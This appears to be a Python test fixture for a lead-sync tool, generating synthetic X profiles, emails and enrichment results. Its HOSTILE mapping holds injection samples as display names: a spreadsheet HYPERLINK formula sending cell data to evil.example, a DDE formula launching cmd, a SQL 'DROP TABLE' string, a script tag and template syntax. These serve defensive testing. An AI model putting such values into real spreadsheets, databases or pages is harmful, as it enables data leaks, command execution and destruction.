"""Made-up leads: what CTGO lists, with the names, gaps and addresses that real people have.

Person `n` is always the same person. Among every three, one has a verified address, one an address that was only
guessed, and one none.
"""

from collections.abc import Mapping
from types import MappingProxyType
from typing import Any

from syncd.connector import Lead
from syncd.core.lead import parse_lead

NAMES = (
    "Ada Moreau",
    "José Álvarez-Núñez",
    "Nguyễn Thị Hạnh",
    "李小龙",
    "Zoë van der Berg",
    "Oleksandr Коваль",
    "محمد العلي",
    "Fatima 🚀 | building things",
    "Cher",
    "Dr. Per Ørsted Jr.",
)

HOSTILE: Mapping[str, str] = MappingProxyType(
    {
        "a formula": '=HYPERLINK("https://evil.example/"&A1)',
        "a plus formula": "+SUM(1+9)*cmd|' /C calc'!A0",
        "quotes": "O'Brien \"the\" `Tester` \\' \\\\",
        "line ends": "two\r\nlines\tand\u2028a third",
        "markup": "<script>alert(1)</script> & <b>bold</b>",
        "a template": "{{ 7 * 7 }} {% raw %} ${x} %s {0}",
        "a query": "'; DROP TABLE leads; --",
        "emoji": "👩‍👩‍👧‍👦 Zé 🇧🇷 🏳️‍🌈",
        "right to left": "\u202eevil\u202c مرحبا \u200f",
        "combining marks": "Z\u0351\u036b\u0343a\u0321\u030al\u0334g\u0337o",
        "very long": "Wolfeschlegelsteinhausen " * 14,
    }
)
"""Texts that somebody could choose as a display name on X, by what they are."""

IMPOSSIBLE: Mapping[str, str] = MappingProxyType(
    {"NUL": "nul\x00nul", "a lone surrogate": "half \ud83d pair"}
)
"""Texts that a lead never holds, for they are cleaned when it is read, but that a mapping can make."""

_FIRST_PERSON = 1_400_000_000_000_000_000


def person_id(n: int) -> str:
    """The X user id of person `n`: 19 digits."""
    return str(_FIRST_PERSON + n)


def raw_lead(n: int) -> dict[str, Any]:
    """Lead `n` of person `n`, as a row of a listing."""
    return {
        "id": n,
        "streamId": 7,
        "segmentId": 3,
        "trackedXAccountId": 5,
        "matchConfidence": ("high", "medium", "low")[n % 3],
        "sourceType": "follower",
        "discoveredAt": "2026-06-11T07:15:00Z",
        "profile": {
            "xUserId": person_id(n),
            "handle": f"maker_{n}",
            "displayName": NAMES[n % len(NAMES)],
            "profileImageUrl": f"https://pbs.example.com/profile/{n}.jpg",
            "followerCount": 1000 + n,
            "bio": f"I make things. Workshop no. {n} 🌱",
        },
    }


def enrichment(n: int) -> dict[str, Any]:
    """Return the answer of enriching person `n`."""
    statuses = ("verified", "guessed")
    if n % 3 == len(statuses):
        return {}
    address = {"address": f"maker{n}@studio{n}.example.com", "status": statuses[n % 3]}
    return {"email": address, "linkedin": {"url": f"https://www.linkedin.com/in/maker-{n}"}}


def lead(raw: Mapping[str, Any]) -> Lead:
    """The lead of a row. Raises ValueError for what CTGO could not send."""
    parsed = parse_lead("main", raw)
    if not isinstance(parsed, tuple):
        raise ValueError(f"this is no lead: {parsed.reason}")  # noqa: TRY004 - a wrong value
    return parsed[0]
